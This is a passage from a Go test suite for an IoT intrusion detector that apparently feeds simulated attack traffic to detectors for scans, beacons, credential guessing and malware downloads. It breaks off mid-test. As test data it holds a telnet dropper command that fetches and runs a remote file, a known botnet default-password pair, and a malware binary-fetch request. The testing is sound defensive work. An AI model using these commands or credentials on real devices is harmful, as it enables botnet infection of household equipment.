package detect_test

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/api"
	"github.com/ringwall/ringwall/internal/detect"
	"github.com/ringwall/ringwall/internal/packet"
)

const (
	attack    = ringwall.NatureAttack
	deviation = ringwall.NatureDeviation
	notice    = ringwall.NatureNotice
)

func seqOf(a netip.Addr) uint32 { b := a.As4(); return binary.BigEndian.Uint32(b[:]) }

func TestMiraiScan_firstPacket(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	dst := outside(1)
	w.seg(cam, 6000, dst, 23, packet.SYN, seqOf(dst), "")
	a := w.want(detect.MiraiScan, attack, string(camID), "source")
	if a.Severity != ringwall.Critical || a.Stage != ringwall.Propagation || a.Evidence.Packets[0] != 1 || a.Peer != dst {
		t.Errorf("alert %+v", a)
	}
	// The same an hour long is one alert; an ordinary SYN, an answer, none.
	for i := range 500 {
		w.seg(cam, 6000, outside(i), 23, packet.SYN, seqOf(outside(i)), "")
	}
	if n := len(w.of(detect.MiraiScan)); n != 1 {
		t.Errorf("%d alerts of one scan", n)
	}
	v := newWorld(t, detect.Config{}, homeDevices())
	v.seg(cam, 6000, dst, 23, packet.SYN, seqOf(dst)+1, "")
	v.seg(cam, 6000, dst, 23, packet.SYN|packet.ACK, seqOf(dst), "")
	if n := len(v.of(detect.MiraiScan)); n != 0 {
		t.Errorf("%d alerts without the fingerprint", n)
	}
}

func TestMiraiScan_fromOutsideIsWeather(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.seg(stranger, 6000, cam, 23, packet.SYN, seqOf(cam), "")
	if a := w.want(detect.MiraiScan, attack, stranger.String(), "source"); a.Severity != ringwall.Low {
		t.Errorf("severity %s", a.Severity)
	}
}

func TestAdminFanout(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 5 {
		w.syn(cam, outside(i), 23)
		w.syn(cam, outside(i), 23) // the same target again is no other
		w.pass(5 * time.Second)
	}
	w.silent()
	w.syn(cam, outside(5), 2323)
	a := w.want(detect.AdminFanout, attack, string(camID), "source")
	if a.Evidence.Facts["ports"] != "23,2323" || a.Evidence.Facts["targets"] != "6" || len(a.Evidence.Packets) != 6 {
		t.Errorf("evidence %+v", a.Evidence)
	}
}

func TestAdminFanout_slow(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 20 {
		if len(w.alerts) > 0 {
			t.Fatalf("alert after %d targets", i)
		}
		w.syn(cam, outside(i), 22)
		w.pass(20 * time.Minute)
	}
	if a := w.want(detect.AdminFanout, attack, string(camID), "source"); a.Evidence.Facts["window"] != "24h0m0s" {
		t.Errorf("evidence %+v", a.Evidence)
	}
}

func TestAdminFanout_fastIsNotToldAgainAsSlow(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 60 {
		w.syn(cam, outside(i), 23)
	}
	w.want(detect.AdminFanout, attack, string(camID), "source")
}

func TestAdminFanout_namedTargetsAreHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 30 {
		w.resolve(phone, fmt.Sprintf("host%d.example", i), outside(i))
		w.open(phone, outside(i), 22)
	}
	w.silent()
}

// TestAnyFanout_unknownFamily: scans at 20 to 500 new targets a second, on
// ports, in an order and with a jitter that a seed draws, are found within
// three seconds of their first packet, whether targets are silent or refuse.
func TestAnyFanout_unknownFamily(t *testing.T) {
	for _, rate := range []int{20, 30, 50, 100, 200, 500} {
		var worst time.Duration
		for seed := range uint64(20) {
			r := rand.New(rand.NewPCG(seed, uint64(rate)))
			var ports []uint16
			for range 1 + r.IntN(4) {
				ports = append(ports, uint16(1024+r.IntN(60000)))
			}
			refuse := r.IntN(3) // 0: silent, 1: refuse, 2: some open
			w := newWorld(t, detect.Config{Seed: seed + 1}, homeDevices())
			// Something honest runs beside it.
			w.resolve(cam, "cloud.example", cloud)
			c := w.open(cam, cloud, 443)
			first := w.now
			found := time.Duration(-1)
			for i := 0; w.now.Sub(first) < 5*time.Second; i++ {
				d := w.syn(cam, outside(r.IntN(1<<20)), ports[r.IntN(len(ports))])
				switch {
				case refuse == 1:
					d.refuse()
				case refuse == 2 && r.IntN(10) == 0:
					w.seg(d.dst, d.dport, cam, d.sport, packet.SYN|packet.ACK, 1, "")
				}
				if i%7 == 0 {
					c.say("frame")
				}
				gap := time.Second / time.Duration(rate)
				w.now = w.now.Add(gap/2 + time.Duration(r.Int64N(int64(gap))))
				if w.engine.Tick(w.now); len(w.of(detect.AnyFanout)) > 0 {
					found = w.of(detect.AnyFanout)[0].Time.Sub(first)
					break
				}
			}
			if found < 0 || found > 3*time.Second {
				t.Fatalf("rate %d seed %d ports %v refuse %d: found after %s", rate, seed, ports, refuse, found)
			}
			w.want(detect.AnyFanout, attack, string(camID), "source")
			worst = max(worst, found)
		}
		t.Logf("%d new targets a second: found after %s at worst", rate, worst.Round(time.Millisecond))
	}
}

func TestAnyFanout_browsingIsHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	// A page of eighty hosts, all looked up.
	for i := range 80 {
		w.resolve(phone, fmt.Sprintf("h%d.example", i), outside(i))
		w.open(phone, outside(i), 443)
		w.now = w.now.Add(20 * time.Millisecond)
	}
	// The same from a phone whose questions we cannot read: the web answers.
	for i := range 200 {
		w.open(phone, outside(1000+i), 443)
		w.now = w.now.Add(20 * time.Millisecond)
	}
	w.pass(5 * time.Second)
	w.silent()
}

func TestAnyFanout_fileSharingIsNoAttack(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	r := rand.New(rand.NewPCG(1, 1))
	for i := range 500 {
		w.dgram(phone, 6881, outside(i), uint16(1024+r.IntN(60000)), "d1:ad2:id20:")
		w.syn(phone, outside(i), uint16(1024+r.IntN(60000)))
		w.pass(100 * time.Millisecond)
	}
	w.noAttack()
	if len(w.of(detect.AnyFanout)) == 0 {
		t.Error("five hundred bare peers go unnoticed")
	}
}

func TestAnyFanout_lostUplinkIsHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	// The line is down: the same few targets are tried again and again.
	for i := range 600 {
		w.syn(cam, outside(i%8), 443)
		w.dgram(cam, 123, outside(i%4), 123, "ntp")
		w.pass(500 * time.Millisecond)
	}
	if n := len(w.of(detect.AnyFanout)); n != 0 {
		t.Errorf("%d alerts: %s", n, w.summary())
	}
}

func TestVerticalScan(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.open(cam, phone, 80) // open ports do not count
	w.open(cam, phone, 443)
	for i := range 12 {
		if len(w.of(detect.VerticalScan)) > 0 {
			t.Fatalf("alert after %d ports", i)
		}
		w.syn(cam, phone, uint16(1000+i)).refuse()
	}
	if a := w.want(detect.VerticalScan, attack, string(camID), "source"); a.Peer != phone {
		t.Errorf("peer %s", a.Peer)
	}
}

func TestVerticalScan_fromOutside(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 40 {
		w.syn(stranger, cam, uint16(1000+i))
	}
	if a := w.want(detect.VerticalScan, attack, string(camID), "target"); a.Peer != stranger || a.Stage != ringwall.Infection {
		t.Errorf("alert %+v", a)
	}
}

func TestVerticalScan_stealthAndUDP(t *testing.T) {
	w := newWorld(t, detect.Config{}, nil)
	for i := range 20 {
		w.seg(phone, 5000, cam, uint16(1+i), packet.FIN|packet.PSH|packet.URG, 0, "") // Xmas
	}
	w.want(detect.VerticalScan, attack, phone.String(), "source")
	v := newWorld(t, detect.Config{}, nil)
	for i := range 20 {
		v.dgram(phone, 5000, cam, uint16(1+i), "x")
		v.send(packet.Packet{Layers: packet.IPv4 | packet.ICMP, Proto: 1, Src: cam, Dst: phone, ICMPType: 3, ICMPCode: 3, Inner: packet.Inner{Src: phone, Dst: cam, Proto: 17, SrcPort: 5000, DstPort: uint16(1 + i)}})
	}
	v.want(detect.VerticalScan, attack, phone.String(), "source")
	u := newWorld(t, detect.Config{}, nil)
	for i := range 90 { // traceroute
		u.dgram(phone, 5000, stranger, uint16(33434+i), "x")
		u.send(packet.Packet{Layers: packet.IPv4 | packet.ICMP, Proto: 1, Src: stranger, Dst: phone, ICMPType: 3, ICMPCode: 3, Inner: packet.Inner{Src: phone, Dst: stranger, Proto: 17, SrcPort: 5000, DstPort: uint16(33434 + i)}})
	}
	u.noAttack()
}

func TestNewPeer(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.resolve(goodCam, "cloud.example", cloud)
	w.open(goodCam, cloud, 443)   // learned by its name
	w.open(phone, goodCam, 554)   // learned by its address
	w.open(cam, command, 6667)    // nothing is new for a device that was not learned
	w.open(goodCam, command, 443) // new
	a := w.want(detect.NewPeer, deviation, string(goodID), "source")
	if a.Peer != command || a.Severity != ringwall.Medium || a.Evidence.Facts["direction"] != "from" {
		t.Errorf("alert %+v", a)
	}
	w.open(goodCam, command, 443)
	if n := len(w.of(detect.NewPeer)); n != 1 {
		t.Errorf("%d alerts of one peer", n)
	}
	w.syn(stranger, goodCam, 23)
	all := w.of(detect.NewPeer)
	if len(all) != 2 || all[1].Evidence.Facts["direction"] != "to" || all[1].Peer != stranger || all[1].Evidence.Facts["role"] != "target" {
		t.Errorf("a stranger that knocks: %+v", all)
	}
}

func TestNewPeer_manyWeighMore(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 200 {
		w.syn(goodCam, outside(i), 8080)
	}
	all := w.of(detect.NewPeer)
	high := 0
	for _, a := range all {
		if a.Severity == ringwall.High {
			high++
		}
		if a.Nature != deviation {
			t.Errorf("alert %+v", a)
		}
	}
	if high != 1 || len(all) > 13 {
		t.Errorf("%d alerts, %d of them high; want at most 13 and one", len(all), high)
	}
}

func TestFailingBeacon(t *testing.T) {
	for _, refuse := range []bool{false, true} {
		w := newWorld(t, detect.Config{}, homeDevices())
		w.open(phone, cloud, 443) // the line works
		for i := range 6 {
			if i < 5 {
				w.silent()
			}
			d := w.syn(cam, command, 6667)
			if refuse {
				d.refuse()
			}
			if i < 5 {
				w.pass(5 * time.Second)
			}
		}
		if a := w.want(detect.FailingBeacon, attack, string(camID), "source"); a.Stage != ringwall.Command || a.Peer != command {
			t.Errorf("alert %+v", a)
		}
	}
}

func TestFailingBeacon_repeatedBySystem(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.open(phone, cloud, 443) // the line works
	// Three calls, of which the system repeats each SYN until it gives up.
	for range 3 {
		d := w.syn(cam, command, 6667)
		for _, s := range []int{1, 2, 4, 8} {
			w.pass(time.Duration(s) * time.Second)
			w.seg(cam, d.sport, command, 6667, packet.SYN, d.first-1, "")
		}
		w.pass(15 * time.Second)
	}
	w.want(detect.FailingBeacon, attack, string(camID), "source")
}

func TestFailingBeacon_namedOrAnsweredIsHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.resolve(cam, "cloud.example", cloud)
	for range 50 { // the vendor's cloud is down
		w.syn(cam, cloud, 8883)
		w.syn(cam, gateway, 80) // and so is the web page of the gateway
		w.open(cam, stranger, 443)
		w.pass(11 * time.Second)
	}
	if n := len(w.of(detect.FailingBeacon)); n != 0 {
		t.Errorf("%d alerts: %s", n, w.summary())
	}
}

func TestFailingBeacon_lineIsDown(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for range 12 { // nobody answers anybody
		w.syn(cam, command, 6667)
		w.pass(5 * time.Second)
	}
	if a := w.want(detect.FailingBeacon, deviation, string(camID), "source"); a.Severity != ringwall.Low {
		t.Errorf("severity %s", a.Severity)
	}
	v := newWorld(t, detect.Config{}, homeDevices())
	v.open(phone, cloud, 443)
	for range 60 { // a router has no way
		d := v.syn(cam, command, 6667)
		v.send(packet.Packet{Layers: packet.IPv4 | packet.ICMP, Proto: 1, Src: gateway, Dst: cam, ICMPType: 3, ICMPCode: 1, Inner: packet.Inner{Src: cam, Dst: command, Proto: 6, SrcPort: d.sport, DstPort: 6667}})
		v.pass(5 * time.Second)
	}
	v.silent(detect.Beacon)
}

func TestBeacon(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	r := rand.New(rand.NewPCG(3, 3))
	for range 10 {
		w.open(cam, command, 4444).say("ping").hear("pong").close()
		w.pass(30*time.Second + time.Duration(r.Int64N(int64(2*time.Second))))
	}
	if a := w.want(detect.Beacon, deviation, string(camID), "source"); !strings.HasPrefix(a.Evidence.Facts["period"], "3") {
		t.Errorf("period %s", a.Evidence.Facts["period"])
	}
	// One connection, on which the bot knocks every minute.
	u := newWorld(t, detect.Config{}, homeDevices())
	d := u.open(cam, command, 48101)
	for range 10 {
		u.pass(time.Minute)
		d.say("\x00\x00").hear("\x00\x00")
	}
	u.want(detect.Beacon, deviation, string(camID), "source")
	v := newWorld(t, detect.Config{}, homeDevices())
	for range 30 { // irregular
		v.open(cam, command, 4444).close()
		v.pass(time.Duration(5+r.Int64N(120)) * time.Second)
	}
	v.silent()
}

func TestCredentialGuessing_SSH(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 8 {
		if len(w.alerts) > 0 {
			t.Fatalf("alert after %d tries", i)
		}
		w.open(stranger, cam, 22).hear("SSH-2.0-x\r\n").close()
		w.pass(6 * time.Second)
	}
	if a := w.want(detect.CredentialGuessing, attack, string(camID), "target"); a.Peer != stranger || a.Stage != ringwall.Infection || len(a.Evidence.Packets) != 8 {
		t.Errorf("alert %+v", a)
	}
}

func TestCredentialGuessing_sessionsAreHonest(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for range 50 { // a backup that opens a session for each file
		w.open(phone, cam, 22).hear(strings.Repeat("x", 6000)).close()
		w.pass(2 * time.Second)
	}
	w.silent()
}

func TestCredentialGuessing_telnet(t *testing.T) {
	// Several tries in one session.
	w := newWorld(t, detect.Config{}, homeDevices())
	d := w.open(stranger, cam, 23).hear("camera login: ")
	for range 5 {
		d.say("root\r\n").hear("Password: ").say("xc3511\r\n").hear("\r\nLogin incorrect\r\ncamera login: ")
	}
	w.want(detect.CredentialGuessing, attack, string(camID), "target")
	// A session for each try, refused by a gateway that enforces: SYNs alone.
	v := newWorld(t, detect.Config{}, homeDevices())
	for range 5 {
		v.syn(stranger, goodCam, 23)
		v.pass(3 * time.Second)
	}
	v.want(detect.CredentialGuessing, attack, string(goodID), "target")
	// A person who mistypes.
	u := newWorld(t, detect.Config{}, homeDevices())
	u.open(phone, cam, 23).hear("camera login: ").say("me\r\n").hear("Login incorrect\r\ncamera login: ").say("me\r\n").hear("Login incorrect\r\ncamera login: ").say("me\r\n").hear("Welcome\r\n# ")
	u.silent()
}

func TestCredentialGuessing_web(t *testing.T) {
	request := func(auth string) string {
		return "GET /admin HTTP/1.1\r\nHost: 10.77.0.10\r\nAuthorization: " + auth + "\r\n\r\n"
	}
	const refusal = "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"
	w := newWorld(t, detect.Config{}, homeDevices())
	d := w.open(stranger, cam, 80)
	for i := range 5 {
		d.say(request(fmt.Sprintf("Basic cm9vdDo%d", i))).hear(refusal)
	}
	w.want(detect.CredentialGuessing, attack, string(camID), "target")
	// A recorder with an old password, and a browser that asks first without.
	v := newWorld(t, detect.Config{}, homeDevices())
	d = v.open(phone, cam, 80)
	for range 50 {
		d.say(request("Basic b2xkcGFzc3dvcmQ=")).hear(refusal)
		d.say("GET / HTTP/1.1\r\nHost: x\r\n\r\n").hear(refusal)
	}
	v.silent()
	// RTSP with digest.
	u := newWorld(t, detect.Config{}, homeDevices())
	d = u.open(phone, cam, 554)
	describe := func(d *dial, name string, i int) {
		d.say(fmt.Sprintf("DESCRIBE rtsp://10.77.0.10/ RTSP/1.0\r\nCSeq: %d\r\nAuthorization: Digest username=\"%s\", response=\"%d\"\r\n\r\n", i, name, i)).
			hear("RTSP/1.0 401 Unauthorized\r\n\r\n")
	}
	for i := range 5 {
		describe(d, fmt.Sprintf("user%d", i), i)
	}
	if got := u.of(detect.CredentialGuessing); len(got) != 2 || got[0].Evidence.Facts["service"] != "rtsp" {
		t.Errorf("guessing inside the house is about both: %s", u.summary())
	}
	// The same name: a tool is fast, a recorder with an old password is not.
	x := newWorld(t, detect.Config{}, homeDevices())
	d = x.open(phone, cam, 554)
	for i := range 60 {
		describe(d, "admin", i)
		x.pass(2 * time.Second)
	}
	x.silent()
	for i := range 8 {
		describe(d, "admin", i)
		x.pass(200 * time.Millisecond)
	}
	if got := x.of(detect.CredentialGuessing); len(got) != 2 {
		t.Errorf("a fast tool: %s", x.summary())
	}
	// FTP.
	f := newWorld(t, detect.Config{}, homeDevices())
	d = f.open(stranger, cam, 21)
	for range 5 {
		d.say("PASS x\r\n").hear("530 Login incorrect.\r\n")
	}
	f.want(detect.CredentialGuessing, attack, string(camID), "target")
}

func TestCredentialGuessing_knownClientsAreHonest(t *testing.T) {
	devices := homeDevices()
	devices[1].Terms = []api.Term{{Action: api.Allow, Direction: api.ToDevice, CIDR: netip.PrefixFrom(phone, 32), Proto: "tcp", Ports: []api.PortRange{{First: 22, Last: 23}}}}
	w := newWorld(t, detect.Config{}, devices)
	for range 20 {
		w.open(phone, goodCam, 23).hear("$ ").close()
		w.open(phone, goodCam, 22).close()
	}
	w.silent()
}

func TestCredentialGuessing_byTheDevice(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for range 8 {
		w.open(cam, stranger, 22).close()
	}
	if a := w.want(detect.CredentialGuessing, attack, string(camID), "source"); a.Severity != ringwall.High || a.Stage != ringwall.Propagation {
		t.Errorf("alert %+v", a)
	}
}

func TestBinaryDownload(t *testing.T) {
	elf := "\x7fELF\x01\x01\x01"
	get := "GET /bins/x.arm7 HTTP/1.0\r\nHost: 198.51.100.66\r\n\r\n"
	for name, talk := range map[string]func(w *world){
		"in one packet": func(w *world) { w.open(cam, loader, 80).say(get).hear("HTTP/1.0 200 OK\r\n\r\n" + elf) },
		"body in the next": func(w *world) {
			w.open(cam, loader, 80).say(get).hear("HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\n").hear(elf)
		},
		"a byte at a time": func(w *world) {
			d := w.open(cam, loader, 80).say(get)
			for _, c := range []byte("HTTP/1.0 200 OK\r\nServer: x\r\n\r\n" + elf) {
				d.hear(string([]byte{c}))
			}
		},
		"chunked": func(w *world) {
			w.open(cam, loader, 80).say(get).hear("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1000\r\n" + elf)
		},
		"chunked, a byte at a time": func(w *world) {
			d := w.open(cam, loader, 80).say(get)
			for _, c := range []byte("HTTP/1.1 200 OK\r\n\r\n0000AbcD\r\n" + elf) {
				d.hear(string([]byte{c}))
			}
		},
		"script": func(w *world) {
			w.open(cam, loader, 8080).say(get).hear("HTTP/1.1 200 OK\n\n#!/bin/sh\nwget")
		},
		"bare stream": func(w *world) { w.open(cam, loader, 9999).hear(elf) },
		"second answer": func(w *world) {
			w.open(cam, loader, 80).say(get).hear("HTTP/1.1 404 Not Found\r\n\r\nno").say(get).hear("HTTP/1.1 200 OK\r\n\r\n" + elf)
		},
		"TFTP": func(w *world) {
			w.dgram(cam, 5069, loader, 69, "\x00\x01x.mips\x00octet\x00")
			w.dgram(loader, 34567, cam, 5069, "\x00\x03\x00\x01"+elf)
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, detect.Config{}, homeDevices())
			talk(w)
			if a := w.want(detect.BinaryDownload, attack, string(camID), "source"); a.Peer != loader || a.Stage != ringwall.Infection || a.Severity != ringwall.High {
				t.Errorf("alert %+v", a)
			}
		})
	}
}

func TestBinaryDownload_updatesAreHonest(t *testing.T) {
	elf := "\x7fELF\x01\x01\x01"
	w := newWorld(t, detect.Config{}, homeDevices())
	w.resolve(cam, "update.example", cloud)
	w.open(cam, cloud, 80).say("GET /fw HTTP/1.1\r\nHost: update.example\r\n\r\n").hear("HTTP/1.1 200 OK\r\n\r\n" + elf)
	w.open(cam, loader, 80).say("GET /x HTTP/1.1\r\nHost: 198.51.100.66\r\n\r\n").hear("HTTP/1.1 200 OK\r\n\r\n<html>\x7fELF")
	w.silent()
	// A name that was looked up out of our sight is a deviation only.
	w.open(cam, loader, 80).say("GET /x HTTP/1.1\r\nHost: cdn.example\r\n\r\n").hear("HTTP/1.1 200 OK\r\n\r\n" + elf)
	w.want(detect.BinaryDownload, deviation, string(camID), "source")
}

func TestBinaryDownload_outOfOrderIsNotMisread(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	d := w.open(cam, loader, 80).say("GET /x HTTP/1.0\r\nHost: 198.51.100.66\r\n\r\n")
	d.hear("HTTP/1.0 200 OK\r\n\r\n")
	d.down += 100 // what comes now is from the middle of the body
	d.hear("\x7fELF")
	w.silent()
	d.down -= 104 // and now its beginning, sent again
	d.hear("\x7fELF")
	w.want(detect.BinaryDownload, attack, string(camID), "source")
}

func TestBinaryDownload_droppedByTelnet(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	w.open(stranger, cam, 23).hear("# ").say(`/bin/busybox echo -ne '\x7f\x45\x4c\x46\x01' > .d` + "\r\n")
	w.want(detect.BinaryDownload, attack, string(camID), "target")
	v := newWorld(t, detect.Config{}, homeDevices())
	v.open(cam, stranger, 23).hear("# ").say("wget http://198.51.100.66/x; sh x\r\n")
	if a := v.want(detect.BinaryDownload, attack, string(camID), "source"); a.Stage != ringwall.Propagation {
		t.Errorf("alert %+v", a)
	}
}

func TestARPSweep(t *testing.T) {
	ask := func(w *world, from netip.Addr, to byte) {
		w.send(packet.Packet{Layers: packet.ARP, SrcMAC: macs[from], ARPOp: 1, ARPSender: from, ARPSenderMAC: macs[from], ARPTarget: netip.AddrFrom4([4]byte{10, 77, 0, to})})
	}
	w := newWorld(t, detect.Config{}, homeDevices())
	for range 5 {
		for i := range byte(15) {
			ask(w, cam, 100+i)
		}
	}
	ask(w, cam, 10) // announces itself
	w.silent()
	ask(w, cam, 120)
	w.want(detect.ARPSweep, attack, string(camID), "source")
}

func TestARPSweep_gatewayIsAllowedMore(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	gw := packet.MAC{2, 0, 0, 0, 0, 1}
	w.resolve(phone, "x.example", cloud)
	for range 20 {
		w.open(phone, cloud, 443) // answers from outside come by the gateway
	}
	for i := range 90 {
		w.send(packet.Packet{Layers: packet.ARP, SrcMAC: gw, ARPOp: 1, ARPSender: gateway, ARPSenderMAC: gw, ARPTarget: netip.AddrFrom4([4]byte{10, 77, 0, byte(i)})})
	}
	w.silent()
	for i := range 90 {
		w.send(packet.Packet{Layers: packet.ARP, SrcMAC: gw, ARPOp: 1, ARPSender: gateway, ARPSenderMAC: gw, ARPTarget: netip.AddrFrom4([4]byte{10, 77, 0, byte(100 + i)})})
	}
	w.want(detect.ARPSweep, attack, gateway.String(), "source")
}

func TestARPSweep_neighbourDiscovery(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	for i := range 16 {
		w.send(packet.Packet{Layers: packet.IPv6 | packet.ICMPv6, Proto: 58, SrcMAC: macs[cam], Src: netip.MustParseAddr("fe80::10"), Dst: netip.MustParseAddr("ff02::1:ff00:1"), ICMPType: 135,
			NDTarget: netip.AddrFrom16([16]byte{0xfe, 0x80, 15: byte(i)})})
	}
	w.want(detect.ARPSweep, attack, string(camID), "source")
}

func TestICMPSweep(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	ping := func(to netip.Addr) {
		w.send(packet.Packet{Layers: packet.IPv4 | packet.ICMP, Proto: 1, Src: cam, Dst: to, ICMPType: 8})
	}
	for i := range 100 {
		ping(outside(i % 9))
		w.pass(time.Second)
	}
	w.silent()
	ping(outside(10))
	w.want(detect.ICMPSweep, attack, string(camID), "source")
}

func TestStrangerVideo(t *testing.T) {
	play := func(w *world, from, to netip.Addr) {
		w.open(from, to, 554).say("OPTIONS rtsp://x RTSP/1.0\r\n\r\n").hear("RTSP/1.0 200 OK\r\n\r\n").
			say("PLAY rtsp://10.77.0.11/live RTSP/1.0\r\nCSeq: 5\r\n\r\n").hear("RTSP/1.0 200 OK\r\nCSeq: 5\r\n\r\n")
	}
	w := newWorld(t, detect.Config{}, homeDevices())
	play(w, phone, goodCam) // learned
	play(w, phone, cam)     // of a camera that nothing is known of
	w.silent()
	play(w, stranger, goodCam)
	var opened []ringwall.Alert
	for _, a := range w.of(detect.StrangerVideo) {
		if a.Stage == ringwall.Action {
			opened = append(opened, a)
		}
	}
	if len(opened) != 1 || opened[0].Severity != ringwall.High || opened[0].Nature != attack || opened[0].Subject.ID != string(goodID) || opened[0].Peer != stranger {
		t.Errorf("stranger: %s", w.summary())
	}
	// A new host of the house.
	v := newWorld(t, detect.Config{}, homeDevices())
	play(v, cam, goodCam)
	v.want(detect.StrangerVideo, deviation, string(goodID), "target")
	// Refused at the first packet, it is told of all the same.
	u := newWorld(t, detect.Config{}, homeDevices())
	u.syn(stranger, goodCam, 554)
	if a := u.want(detect.StrangerVideo, attack, string(goodID), "target"); a.Stage != ringwall.Infection || a.Severity != ringwall.Medium {
		t.Errorf("alert %+v", a)
	}
	// A PLAY that is refused opens nothing.
	x := newWorld(t, detect.Config{}, nil)
	x.open(stranger, cam, 554).say("PLAY rtsp://10.77.0.10/live RTSP/1.0\r\n\r\n").hear("RTSP/1.0 401 Unauthorized\r\n\r\n")
	x.silent()
	// Pictures over HTTP are video too.
	y := newWorld(t, detect.Config{}, nil)
	y.open(stranger, cam, 8080).say("GET /video.cgi HTTP/1.1\r\nHost: x\r\n\r\n").hear("HTTP/1.1 200 OK\r\nContent-Type: multipart/x-mixed-replace;boundary=b\r\n\r\n--b")
	y.want(detect.StrangerVideo, attack, cam.String(), "target")
}

// A tap at each end of a gateway may hand over the opening of a connection
// after its answer, or after all that was said first. It is still one
// connection, and everything in it is read.
func TestOpening_comesLate(t *testing.T) {
	const session = "the whole of it"
	steps := []struct {
		name string
		do   func(d *dial)
	}{
		{"answer", func(d *dial) { d.answer() }},
		{"options", func(d *dial) { d.say("OPTIONS rtsp://x RTSP/1.0\r\n\r\n") }},
		{"options answered", func(d *dial) { d.hear("RTSP/1.0 200 OK\r\n\r\n") }},
		{"play", func(d *dial) { d.say("PLAY rtsp://10.77.0.11/live RTSP/1.0\r\nCSeq: 5\r\n\r\n") }},
		{"play answered", func(d *dial) { d.hear("RTSP/1.0 200 OK\r\nCSeq: 5\r\n\r\n") }},
		{session, func(*dial) {}},
	}
	for at, step := range steps {
		t.Run("before "+step.name, func(t *testing.T) {
			w := newWorld(t, detect.Config{}, homeDevices())
			d := w.dial(stranger, goodCam, 554)
			for i, s := range steps {
				if i == at {
					d.open()
				}
				s.do(d)
			}
			stages := map[ringwall.Stage]int{}
			for _, a := range w.of(detect.StrangerVideo) {
				stages[a.Stage]++
			}
			if stages[ringwall.Infection] != 1 || stages[ringwall.Action] != 1 {
				t.Errorf("want one try and one stream:\n%s", w.summary())
			}
		})
	}
	t.Run("is not counted twice", func(t *testing.T) {
		w := newWorld(t, detect.Config{}, homeDevices())
		for range 4 { // of five that would be guessing
			d := w.open(stranger, goodCam, 23)
			w.seg(d.src, d.sport, d.dst, d.dport, packet.SYN, d.first-1, "")
			w.pass(time.Second)
		}
		w.silent(detect.NewPeer)
	})
	t.Run("but the same again later is another", func(t *testing.T) {
		w := newWorld(t, detect.Config{}, homeDevices())
		d := w.dial(stranger, goodCam, 23)
		for range 5 {
			d.open()
			d.answer()
			w.pass(2 * time.Second)
		}
		w.want(detect.CredentialGuessing, attack, string(goodID), "target")
	})
}

// A stream that is older than the detectors is seen by its pictures.
func TestStrangerVideo_underWay(t *testing.T) {
	picture := "$\x00\x00\x10" + "\x80\x60\x00\x01\x00\x00\x00\x01\x00\x00\x00\x01" + "pict"
	for _, c := range []struct {
		name, says string
		from       netip.Addr
		port       uint16
		want       int
	}{
		{"a stranger", picture, stranger, 554, 1},
		{"a learned viewer", picture, phone, 554, 0},
		{"a frame too short for a picture", "$\x00\x00\x08\x80\x60\x00\x01\x00\x00\x00\x01\x00\x00\x00\x01", stranger, 554, 0},
		{"another protocol", strings.Repeat("$", 40), stranger, 554, 0},
		{"another port", picture, stranger, 9000, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t, detect.Config{}, homeDevices())
			d := w.dial(c.from, goodCam, c.port)
			for range 3 {
				d.hear(c.says)
				w.seg(d.src, d.sport, d.dst, d.dport, packet.ACK, d.up, "")
			}
			all := w.of(detect.StrangerVideo)
			if len(all) != c.want {
				t.Fatalf("%d alerts, want %d:\n%s", len(all), c.want, w.summary())
			}
			if c.want == 0 {
				return
			}
			if a := all[0]; a.Severity != ringwall.High || a.Nature != attack || a.Stage != ringwall.Action || a.Subject.ID != string(goodID) || a.Peer != c.from {
				t.Errorf("alert %+v", a)
			}
		})
	}
}

func TestAddressSpoof(t *testing.T) {
	w := newWorld(t, detect.Config{}, homeDevices())
	forged := packet.MAC{2, 9, 9, 9, 9, 9}
	w.send(packet.Packet{Layers: packet.IPv4 | packet.TCP, Proto: 6, SrcMAC: forged, Src: cam, Dst: stranger, SrcPort: 1, DstPort: 23, Flags: packet.SYN, Seq: seqOf(stranger)})
	w.want(detect.AddressSpoof, notice, string(camID), "target")
	// What the forger does is not the camera's doing.
	if a := w.of(detect.MiraiScan); len(a) != 1 || a[0].Subject.Kind != ringwall.SubjectAddress {
		t.Errorf("a forger frames the camera: %s", w.summary())
	}
	// A device that forges addresses is itself all the time.
	v := newWorld(t, detect.Config{}, homeDevices())
	for i := range 10 {
